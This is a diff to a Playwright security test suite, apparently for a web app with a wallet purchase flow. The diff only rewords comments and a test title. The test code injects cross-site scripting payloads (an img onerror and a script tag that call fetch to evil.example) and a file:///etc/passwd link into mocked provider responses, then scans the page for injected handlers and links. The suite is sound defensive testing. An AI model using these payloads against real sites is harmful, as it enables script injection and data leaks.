@@ -7,11 +7,11 @@ import { chain, collectionPath, freshToken, shoot, tokenPath, type Visitor, visi
 
 const browser = await sharedBrowser()
 
-/** Where everything that got loose would go. */
+/** Where injected code would send what it finds. */
 const lair = 'https://evil.example'
 const run = `globalThis.pwned=(globalThis.pwned??0)+1;fetch('${lair}/run')`
 
-/** Text that markup, templates, styles and readers have been fooled with. */
+/** Text that has fooled markup, templates, styles and readers. */
 const texts = [
   `<img src=x onerror="${run}">`,
   `<script>${run}</script>`,
@@ -38,7 +38,7 @@ const pictures = [
   `file:///etc/passwd`,
 ]
 
-/** Replaces every name, description, picture and link of an answer, wherever it stands. */
+/** Replaces every name, description, picture and link of a response, wherever it is. */
 function poisoned(value: unknown, next: { at: number }): unknown {
   if (Array.isArray(value)) return value.map((each) => poisoned(each, next))
   if (typeof value !== 'object' || value === null) return value
@@ -58,7 +58,7 @@ function poisoned(value: unknown, next: { at: number }): unknown {
   )
 }
 
-/** The honest answer with a change. */
+/** The honest response with a change. */
 const changed =
   (change: (answer: unknown) => unknown) =>
   async (route: Route): Promise<void> => {
@@ -67,12 +67,12 @@ const changed =
       const isJson = (response.headers()['content-type'] ?? '').includes('json')
       await route.fulfill(isJson ? { response, json: change(await response.json()) } : { response })
     } catch {
-      // The page went on meanwhile: nobody waits for the answer.
+      // The page went on meanwhile: nobody waits for the response.
       await route.abort().then(undefined, () => undefined)
     }
   }
 
-/** A visitor whose provider lies in all it shows; what runs, leaves or opens is written down. */
+/** A visitor whose provider lies in everything it shows. Collects what runs, leaves the origin or opens. */
 async function visitLiar(
   path: string,
 ): Promise<{ visitor: Visitor; loose: string[]; answers: () => number }> {
@@ -96,7 +96,7 @@ async function visitLiar(
   return { visitor, loose, answers: () => next.at }
 }
 
-/** What stands in the page that nobody of ours put there. */
+/** Elements of the page that none of our code creates. */
 const foreign = (page: Page): Promise<readonly string[]> =>
   page.evaluate((lair) => {
     const found: string[] = []
@@ -106,7 +106,7 @@ const foreign = (page: Page): Promise<readonly string[]> =>
         if (element.shadowRoot) roots.push(element.shadowRoot)
         for (const { name, value } of element.attributes) {
           if (/^on/i.test(name)) found.push(`${element.tagName} ${name}`)
-          // A picture runs nothing of what it is drawn from.
+          // A picture does not run scripts of its source.
           if (element.tagName === 'IMG' && name === 'src' && /^data:image\//.test(value)) continue
           const leads = /^(href|src|srcset|poster|action|formaction|data|srcdoc|style)$/i.test(name)
           if (leads && /javascript:|data:text|srcdoc|evil\.example/i.test(decodeURIComponent(value)))
@@ -121,10 +121,10 @@ const foreign = (page: Page): Promise<readonly string[]> =>
     return found
   }, lair)
 
-test('content of a hostile provider neither runs, navigates nor becomes markup', async () => {
+test('content of a hostile provider does not run, navigate or become markup', async () => {
   const { visitor, loose, answers } = await visitLiar('/')
   const { page } = visitor
-  // Whichever of them stands where it can be seen.
+  // Whichever of them is visible.
   await page
     .getByText(/pwned|evil/)
     .filter({ visible: true })
@@ -166,7 +166,7 @@ test('a purchase of a hostile provider is blocked before the wallet opens', asyn
   await dialog.getByRole('button', { name: 'Buy now' }).click()
   await dialog.getByText('Stopped before your wallet opened').first().waitFor({ timeout: 30_000 })
   expect(await dialog.getByRole('button', { name: 'Confirm in wallet' }).count()).toBe(0)
-  // The name above it is the token's, as plain text; the card itself is ours alone.
+  // The name above the card is the token's, as plain text; the card itself contains only our own text.
   const card = dialog.getByRole('region', { name: 'What your wallet will ask you to approve' })
   await card.waitFor()
   expect(await card.innerText()).not.toMatch(/seed phrase|onerror|pwned|evil/)
